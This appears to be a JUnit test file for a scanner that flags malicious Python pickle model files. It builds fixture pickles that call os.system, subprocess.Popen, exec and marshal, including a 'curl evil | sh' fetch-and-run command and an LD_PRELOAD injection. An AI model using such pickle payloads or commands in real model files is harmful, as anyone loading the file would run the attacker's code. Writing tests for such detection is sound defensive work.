package io.modelgate.scanner.pickle;

import io.modelgate.scanner.analysis.AnalysisContext;
import io.modelgate.scanner.analysis.Deadline;
import io.modelgate.scanner.analysis.FileCollector;
import io.modelgate.scanner.FormatRegistry;
import io.modelgate.scanner.Limits;
import io.modelgate.scanner.analysis.AnalysisEngine;
import io.modelgate.scanner.detect.ContentDetector;
import io.modelgate.scanner.io.ArrayByteSource;
import io.modelgate.scanner.model.ArtifactPath;
import io.modelgate.scanner.model.Finding;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;

import static io.modelgate.scanner.pickle.PickleTesting.analyse;
import static io.modelgate.scanner.pickle.PickleTesting.describe;
import static io.modelgate.scanner.pickle.PickleTesting.withRule;
import static org.assertj.core.api.Assertions.assertThat;

class PickleAnalyzerTest {

    private static Finding single(FileCollector c, String rule) {
        List<Finding> found = withRule(c, rule);
        assertThat(found).as(describe(c)).hasSize(1);
        return found.get(0);
    }

    @Test
    void stackGlobalResolvesStringsFromFarMemoEntriesAt32BitIndexes() throws IOException {
        PickleBuilder b = PickleBuilder.proto(4)
                .str("os").put(0xFFFFFFFFL).op(Opcode.POP)
                .str("system").put(0xFFFFFFFEL).op(Opcode.POP);
        for (int i = 0; i < 500; i++) {
            b.str("filler" + i).op(Opcode.MEMOIZE).op(Opcode.POP);
        }
        byte[] data = b.get(0xFFFFFFFFL).get(0xFFFFFFFEL).op(Opcode.STACK_GLOBAL).call1("curl evil | sh").stop().build();
        FileCollector c = analyse(data);
        Finding call = single(c, "MG-PKL-001");
        assertThat(call.subject()).isEqualTo("os.system");
        assertThat(call.message()).contains("os.system('curl evil | sh')");
        assertThat(call.location().offset()).isEqualTo(data.length - 2);
        assertThat(c.incompleteReasons()).isEmpty();
    }

    @Test
    void textProtocolArgumentsAreDecodedLikePython() throws IOException {
        // STRING with escapes, UNICODE with raw-unicode-escape, PUT/GET with decimal lines, INT/LONG/FLOAT
        byte[] data = PickleBuilder.text()
                .ascii("S'o\\x73'\np10\n0")
                .ascii("V\\u0073ystem\np20\n0")
                .ascii("(I42\nL123456789012345678901234567890L\nF-1.5e3\nI01\ntp30\n0")
                .ascii("g10\ng20\n").op(Opcode.STACK_GLOBAL)
                .ascii("(S'echo \\'hi\\''\ng30\ntR.")
                .build();
        FileCollector c = analyse(data);
        Finding call = single(c, "MG-PKL-001");
        assertThat(call.subject()).isEqualTo("os.system");
        assertThat(call.message()).contains(
                "os.system('echo \\'hi\\'', (42, 123456789012345678901234567890, -1500.0, True))");
    }

    @Test
    void instObjAndNewobjExNameWhatTheyInstantiate() throws IOException {
        byte[] inst = PickleBuilder.text().ascii("(S'id'\nisubprocess\ncheck_output\n.").build();
        assertThat(single(analyse(inst), "MG-PKL-001").message()).contains("subprocess.check_output('id')");
        byte[] obj = PickleBuilder.text().op(Opcode.MARK).global("builtins", "exec").str("print(1)").op(Opcode.OBJ)
                .stop().build();
        assertThat(single(analyse(obj), "MG-PKL-001").message()).contains("instantiates builtins.exec('print(1)')");
        byte[] newobjEx = PickleBuilder.proto(4).global("subprocess", "Popen").str("id").op(Opcode.TUPLE1)
                .op(Opcode.EMPTY_DICT).str("shell").op(Opcode.NEWTRUE).op(Opcode.SETITEM).op(Opcode.NEWOBJ_EX).stop()
                .build();
        assertThat(single(analyse(newobjEx), "MG-PKL-001").message())
                .contains("subprocess.Popen('id', {'shell': True})");
    }

    @Test
    void importedButNeverCalledIsStillCritical() throws IOException {
        byte[] data = PickleBuilder.proto(2).op(Opcode.EMPTY_DICT).str("hook").global("os", "system")
                .op(Opcode.SETITEM).stop().build();
        FileCollector c = analyse(data);
        assertThat(single(c, "MG-PKL-006").subject()).isEqualTo("os.system");
        assertThat(withRule(c, "MG-PKL-001")).isEmpty();
    }

    @Test
    void globalsInsidePersistentIdsAreJudgedLikeAnyOther() throws IOException {
        byte[] good = PickleBuilder.proto(2).op(Opcode.MARK).str("storage").global("torch", "FloatStorage").str("0")
                .str("cpu").int1(4).op(Opcode.TUPLE).op(Opcode.BINPERSID).op(Opcode.POP)
                .op(Opcode.MARK).str("storage").global("os", "system").str("0").op(Opcode.TUPLE).op(Opcode.BINPERSID)
                .stop().build();
        FileCollector c = analyse(good);
        assertThat(c.findings()).as(describe(c)).extracting(Finding::ruleId).containsExactly("MG-PKL-006");
    }

    @Test
    void torchStyleTensorRebuildIsClean() throws IOException {
        byte[] data = PickleBuilder.proto(2).global("collections", "OrderedDict").op(Opcode.EMPTY_TUPLE)
                .op(Opcode.REDUCE).str("w")
                .global("torch._utils", "_rebuild_tensor_v2")
                .op(Opcode.MARK).op(Opcode.MARK).str("storage").global("torch", "HalfStorage").str("0").str("cuda:0")
                .int1(6).op(Opcode.TUPLE).op(Opcode.BINPERSID)
                .int1(0).int1(2).int1(3).op(Opcode.TUPLE2).int1(3).int1(1).op(Opcode.TUPLE2).op(Opcode.NEWFALSE)
                .global("collections", "OrderedDict").op(Opcode.EMPTY_TUPLE).op(Opcode.REDUCE)
                .op(Opcode.TUPLE).op(Opcode.REDUCE).op(Opcode.SETITEM).stop().build();
        FileCollector c = analyse(data);
        assertThat(c.findings()).as(describe(c)).isEmpty();
        assertThat(c.facts().get("pickle.globals")).isEqualTo(
                List.of("collections.OrderedDict", "torch.HalfStorage", "torch._utils._rebuild_tensor_v2"));
        assertThat(c.facts().get("pickle.protocol")).isEqualTo(2);
    }

    @Test
    void callTargetComputedAtLoadTimeIsReported() throws IOException {
        byte[] data = PickleBuilder.proto(2).global("builtins", "getattr").global("importlib", "import_module")
                .call1("os").str("system").op(Opcode.TUPLE2).op(Opcode.REDUCE).call1("id").stop().build();
        FileCollector c = analyse(data);
        Finding unresolved = single(c, "MG-PKL-004");
        assertThat(unresolved.subject()).isEqualTo("builtins.getattr(importlib.import_module('os'), 'system')");
        assertThat(unresolved.message()).contains("builtins.getattr(importlib.import_module('os'), 'system')('id')");
        assertThat(withRule(c, "MG-PKL-001")).extracting(Finding::subject)
                .containsExactly("importlib.import_module");
        // getattr is judged by what it reaches: an attribute of a value computed at load time
        assertThat(withRule(c, "MG-PKL-009")).extracting(Finding::subject)
                .containsExactly("builtins.getattr(importlib.import_module('os'), 'system')");
    }

    @Test
    void stackGlobalWithNonStringOperandsIsRecordedAndBreaks() throws IOException {
        byte[] data = PickleBuilder.proto(4).global("os", "getcwd").op(Opcode.EMPTY_TUPLE).op(Opcode.REDUCE)
                .str("system").op(Opcode.STACK_GLOBAL).call1("id").stop().build();
        FileCollector c = analyse(data);
        Finding bad = single(c, "MG-PKL-004");
        assertThat(bad.message()).contains("module os.getcwd()", "name 'system'");
        assertThat(c.incompleteReasons()).singleElement().asString().contains("malformed");
        // what came before the break is still reported
        assertThat(withRule(c, "MG-PKL-001")).extracting(Finding::subject).containsExactly("os.getcwd");
    }

    @Test
    void malformedStreamsReportWhatCameBeforeTheBreak() throws IOException {
        byte[][] broken = {
            PickleBuilder.proto(2).global("os", "system").op(Opcode.POP).op(Opcode.REDUCE).stop().build(),
            PickleBuilder.proto(2).global("os", "system").op(Opcode.BINGET).raw(7).stop().build(),
            PickleBuilder.proto(2).global("os", "system").raw(0xff).stop().build(),
            PickleBuilder.proto(2).global("os", "system").op(Opcode.POP_MARK).stop().build(),
            PickleBuilder.proto(2).global("os", "system").op(Opcode.EXT1).raw(0).stop().build(),
            PickleBuilder.proto(2).global("os", "system").op(Opcode.MARK).int1(1).op(Opcode.DICT).stop().build(),
            PickleBuilder.proto(9).global("os", "system").stop().build(),
            PickleBuilder.proto(2).global("os", "system").build(),
        };
        for (byte[] data : broken) {
            FileCollector c = analyse(data);
            assertThat(c.incompleteReasons()).as(describe(c)).hasSize(1);
            if (data[1] != 9) {
                assertThat(withRule(c, "MG-PKL-006")).as(describe(c)).extracting(Finding::subject)
                        .containsExactly("os.system");
            }
        }
    }

    @Test
    void hugeDeclaredLengthsAreRejectedWithoutAllocating() throws IOException {
        long huge = 1L << 62;
        byte[][] streams = {
            PickleBuilder.proto(4).op(Opcode.BINBYTES8).le(huge, 8).stop().build(),
            PickleBuilder.proto(4).op(Opcode.BINUNICODE8).le(huge, 8).stop().build(),
            PickleBuilder.proto(5).op(Opcode.BYTEARRAY8).le(-1L, 8).stop().build(),
            PickleBuilder.proto(2).op(Opcode.LONG4).le(0x7fffffffL, 4).stop().build(),
            PickleBuilder.proto(2).op(Opcode.LONG4).le(0x80000000L, 4).stop().build(),
            PickleBuilder.proto(1).op(Opcode.BINSTRING).le(0xffffffffL, 4).stop().build(),
            PickleBuilder.proto(1).op(Opcode.BINUNICODE).le(0xffffffffL, 4).stop().build(),
            PickleBuilder.proto(4).op(Opcode.FRAME).le(huge, 8).op(Opcode.NONE).stop().build(),
        };
        for (byte[] data : streams) {
            FileCollector c = analyse(data);
            if (data[2] == (byte) Opcode.FRAME.code) {
                assertThat(c.incompleteReasons()).as("FRAME is only a hint").isEmpty();
            } else {
                assertThat(c.incompleteReasons()).as(describe(c)).hasSize(1);
            }
        }
    }

    @Test
    void memoIndexFromFullUnsignedRangeNeedsNoArray() throws IOException {
        byte[] data = PickleBuilder.proto(2).op(Opcode.NONE).op(Opcode.LONG_BINPUT).le(0xFFFFFFFFL, 4)
                .op(Opcode.LONG_BINGET).le(0xFFFFFFFFL, 4).op(Opcode.TUPLE2).stop().build();
        FileCollector c = analyse(data);
        assertThat(c.findings()).isEmpty();
        assertThat(c.incompleteReasons()).isEmpty();
    }

    @Test
    void deepMarkNestingAndStackGrowthHitTheStackLimit() throws IOException {
        Limits limits = PickleTesting.pickleLimits(10_000_000, 1000, 1 << 20);
        byte[] marks = PickleBuilder.proto(2).repeat(5000, Opcode.MARK).stop().build();
        FileCollector c = analyse(marks, limits);
        assertThat(withRule(c, "MG-GEN-002")).as(describe(c)).hasSize(1);
        byte[] pushes = PickleBuilder.proto(2).repeat(5000, Opcode.NONE).stop().build();
        assertThat(withRule(analyse(pushes, limits), "MG-GEN-002")).hasSize(1);
        byte[] memo = PickleBuilder.proto(4).op(Opcode.NONE).repeat(5000, Opcode.MEMOIZE).stop().build();
        assertThat(withRule(analyse(memo, limits), "MG-GEN-002")).hasSize(1);
    }

    @Test
    void opcodeCountIsBounded() throws IOException {
        Limits limits = PickleTesting.pickleLimits(10_000, 1000, 1 << 20);
        byte[] data = PickleBuilder.proto(2).repeat(20_000, Opcode.NONE, Opcode.POP).op(Opcode.NONE).stop().build();
        FileCollector c = analyse(data, limits);
        assertThat(withRule(c, "MG-GEN-002")).as(describe(c)).hasSize(1);
        assertThat(c.incompleteReasons()).hasSize(1);
    }

    @Test
    void selfContainingAndDeeplyNestedValuesRenderBounded() throws IOException {
        PickleBuilder b = PickleBuilder.proto(2).global("os", "system")
                .op(Opcode.EMPTY_LIST).put(0).get(0).op(Opcode.APPEND);
        b.op(Opcode.EMPTY_TUPLE).repeat(100_000, Opcode.TUPLE1).op(Opcode.APPEND);
        byte[] data = b.op(Opcode.TUPLE1).op(Opcode.REDUCE).stop().build();
        FileCollector c = analyse(data);
        Finding call = single(c, "MG-PKL-001");
        assertThat(call.message()).startsWith("Loading this pickle calls os.system([[").hasSizeLessThan(1000);
    }

    @Test
    void concatenatedPicklesAreAllAnalysedAndTrailingBytesRecorded() throws IOException {
        byte[] first = PickleBuilder.proto(2).op(Opcode.EMPTY_DICT).stop().build();
        byte[] second = PickleBuilder.text().ascii("(lp0\nI1\na.").build();
        byte[] third = PickleBuilder.proto(4).global("os", "system").call1("id").stop().build();
        byte[] trailing = "\u0000\u0001raw tensor bytes".getBytes(StandardCharsets.ISO_8859_1);
        byte[] data = concat(first, second, third, trailing);
        FileCollector c = analyse(data);
        assertThat(c.facts()).containsEntry("pickle.count", 3).containsEntry("pickle.protocol", 4)
                .containsEntry("pickle.trailingBytes", (long) trailing.length);
        assertThat(single(c, "MG-PKL-001").location().offset())
                .isEqualTo(first.length + second.length + third.length - 2);
        assertThat(c.incompleteReasons()).isEmpty();
    }

    @Test
    void analyzeOneStopsAfterExactlyOnePickle() throws IOException {
        byte[] first = PickleBuilder.proto(2).op(Opcode.NONE).stop().build();
        byte[] second = PickleBuilder.proto(2).global("os", "system").call1("id").stop().build();
        byte[] data = concat(first, second);
        AnalysisEngine engine = new AnalysisEngine(new ContentDetector(FormatRegistry.detectors()),
                FormatRegistry.analyzers(), Limits.defaults());
        FileCollector collector = new FileCollector();
        AnalysisContext context = new AnalysisContext(ArtifactPath.of("legacy.pt"), Limits.defaults(), collector,
                Deadline.after(Duration.ofSeconds(10)), engine);
        PickleAnalyzer analyzer = new PickleAnalyzer();
        ArrayByteSource source = new ArrayByteSource(data);
        assertThat(analyzer.analyzeOne(source, 0, context)).isEqualTo(first.length);
        assertThat(collector.findings()).isEmpty();
        assertThat(analyzer.analyzeOne(source, first.length, context)).isEqualTo(data.length);
        assertThat(collector.findings()).extracting(Finding::ruleId).containsExactly("MG-PKL-001");
        assertThat(analyzer.analyzeOne(source, data.length, context)).isEqualTo(-1);
        assertThat(collector.incompleteReasons()).hasSize(1);
    }

    @Test
    void extensionOpcodesAndMutationsOfImportedObjects() throws IOException {
        byte[] ext = PickleBuilder.proto(2).op(Opcode.EXT2).le(0x1234, 2).call1("id").stop().build();
        FileCollector c = analyse(ext);
        assertThat(withRule(c, "MG-PKL-003")).isNotEmpty()
                .allSatisfy(f -> assertThat(f.subject()).isEqualTo("extension code 4660"));
        byte[] build = PickleBuilder.proto(2).global("torch._utils", "_rebuild_tensor_v2").op(Opcode.EMPTY_DICT)
                .str("__code__").op(Opcode.NONE).op(Opcode.SETITEM).op(Opcode.BUILD).stop().build();
        Finding mutation = single(analyse(build), "MG-PKL-007");
        assertThat(mutation.subject()).isEqualTo("torch._utils._rebuild_tensor_v2");
        byte[] environ = PickleBuilder.proto(2).global("os", "environ").str("LD_PRELOAD").str("/tmp/x.so")
                .op(Opcode.SETITEM).stop().build();
        FileCollector e = analyse(environ);
        assertThat(withRule(e, "MG-PKL-007")).hasSize(1);
        assertThat(withRule(e, "MG-PKL-006")).hasSize(1);
    }

    @Test
    void unknownImportsAreReportedOnceForReview() throws IOException {
        byte[] data = PickleBuilder.proto(2).global("mymodel.layers", "Block").op(Opcode.EMPTY_TUPLE)
                .op(Opcode.NEWOBJ).op(Opcode.EMPTY_DICT).op(Opcode.BUILD)
                .global("mymodel.layers", "Block").op(Opcode.EMPTY_TUPLE).op(Opcode.NEWOBJ).op(Opcode.TUPLE2)
                .stop().build();
        FileCollector c = analyse(data);
        Finding unknown = single(c, "MG-PKL-002");
        assertThat(unknown.subject()).isEqualTo("mymodel.layers.Block");
        assertThat(unknown.rule().category()).isEqualTo("unknown");
        assertThat(unknown.message()).contains("3 calls in total");
    }

    @Test
    void picklesTruncatedAtEveryByteNeverThrowAndReportIncomplete() throws IOException {
        byte[] data = PickleBuilder.proto(4).op(Opcode.FRAME).le(60, 8).str("os").op(Opcode.MEMOIZE)
                .str("system").op(Opcode.MEMOIZE).op(Opcode.STACK_GLOBAL).call1("id").stop().build();
        int globalEnd = data.length - 7;
        for (int cut = 0; cut < data.length; cut++) {
            byte[] prefix = java.util.Arrays.copyOf(data, cut);
            FileCollector c = analyse(prefix);
            assertThat(c.incompleteReasons()).as("cut at " + cut).hasSize(1);
            if (cut >= globalEnd) {
                assertThat(c.findings()).as("cut at " + cut + describe(c))
                        .filteredOn(f -> f.subject() != null && f.subject().equals("os.system"))
                        .extracting(Finding::ruleId).containsAnyOf("MG-PKL-006", "MG-PKL-001");
            }
        }
    }

    @Test
    void payloadsHandedToLoadersAreAnalysedAsNestedArtifacts() throws IOException {
        byte[] inner = PickleBuilder.proto(2).global("os", "system").call1("id").stop().build();
        byte[] viaTorch = PickleBuilder.proto(2).global("torch", "load").global("io", "BytesIO").op(Opcode.SHORT_BINBYTES)
                .raw(inner.length).raw(inner).op(Opcode.TUPLE1).op(Opcode.REDUCE).op(Opcode.TUPLE1).op(Opcode.REDUCE)
                .stop().build();
        FileCollector c = analyse(viaTorch);
        assertThat(single(c, "MG-PKL-005").message()).contains("<nested-torch@");
        assertThat(c.findings()).as(describe(c)).anySatisfy(f -> {
            assertThat(f.subject()).isEqualTo("os.system");
            assertThat(f.location().path().toString()).endsWith("!<nested-torch@" + (viaTorch.length - 2) + ">");
        });
        byte[] marshal = PickleBuilder.proto(3).global("marshal", "loads").op(Opcode.SHORT_BINBYTES).raw(3)
                .raw('c', 0, 0).op(Opcode.TUPLE1).op(Opcode.REDUCE).stop().build();
        FileCollector m = analyse(marshal);
        assertThat(single(m, "MG-PKL-005").message()).contains("marshalled Python code");
        assertThat(single(m, "MG-PKL-001").subject()).isEqualTo("marshal.loads");
        byte[] computed = PickleBuilder.proto(2).global("pickle", "loads").global("base64", "b64decode")
                .call1("gASVAAAA").op(Opcode.TUPLE1).op(Opcode.REDUCE).stop().build();
        assertThat(single(analyse(computed), "MG-PKL-005").message()).contains("computed at load time");
    }

    @Test
    void torchStoragePickledOnItsOwnIsInventoryNotAFinding() throws IOException {
        byte[] inner = PickleBuilder.proto(2).op(Opcode.EMPTY_DICT).stop().build();
        byte[] data = PickleBuilder.proto(2).global("torch.storage", "_load_from_bytes").op(Opcode.SHORT_BINBYTES)
                .raw(inner.length).raw(inner).op(Opcode.TUPLE1).op(Opcode.REDUCE).stop().build();
        FileCollector c = analyse(data);
        assertThat(c.findings()).as(describe(c)).extracting(Finding::ruleId).containsExactly("MG-PKL-008");
        assertThat(c.facts()).containsKey("test.pkl!<nested-torch@" + (data.length - 2) + ">#pickle.count");
    }

    @Test
    void chainsOfSymbolicValuesStayWithinTheModelBudget() throws IOException {
        Limits limits = PickleTesting.pickleLimits(10_000_000, 1000, 1 << 20);
        // every BINPERSID wraps the previous value: a chain as long as the stream
        byte[] persid = PickleBuilder.proto(2).op(Opcode.NONE).repeat(100_000, Opcode.BINPERSID).stop().build();
        FileCollector c = analyse(persid, limits);
        assertThat(c.incompleteReasons()).isEmpty();
        // calls whose argument is the previous call's result, then a dangerous call at the end
        PickleBuilder calls = PickleBuilder.proto(2).global("collections", "OrderedDict").put(0).op(Opcode.POP)
                .op(Opcode.NONE);
        for (int i = 0; i < 20_000; i++) {
            calls.put(1).op(Opcode.POP).get(0).get(1).op(Opcode.TUPLE1).op(Opcode.REDUCE);
        }
        byte[] data = calls.global("os", "system").op(Opcode.EMPTY_TUPLE).op(Opcode.REDUCE).stop().build();
        FileCollector d = analyse(data, limits);
        assertThat(withRule(d, "MG-PKL-001")).as(describe(d)).hasSize(1);
    }

    @Test
    void tooManyDistinctGlobalsFailClosedButKeepDangerousOnes() throws IOException {
        PickleBuilder b = PickleBuilder.proto(2);
        for (int i = 0; i < PickleFindings.MAX_DISTINCT_GLOBALS + 10; i++) {
            b.global("pkg" + i, "Thing").op(Opcode.POP);
        }
        byte[] data = b.global("os", "system").op(Opcode.NONE).stop().build();
        FileCollector c = analyse(data);
        assertThat(withRule(c, "MG-GEN-002")).hasSize(1);
        assertThat(withRule(c, "MG-PKL-006")).extracting(Finding::subject).containsExactly("os.system");
        assertThat(withRule(c, "MG-PKL-002")).hasSize(PickleFindings.MAX_DISTINCT_GLOBALS);
        assertThat((List<?>) c.facts().get("pickle.globals")).hasSize(PickleAnalyzer.MAX_GLOBALS_FACT);
        assertThat(c.facts()).containsEntry("pickle.globalsTruncated", PickleFindings.MAX_DISTINCT_GLOBALS);
    }

    static byte[] concat(byte[]... parts) {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }
}
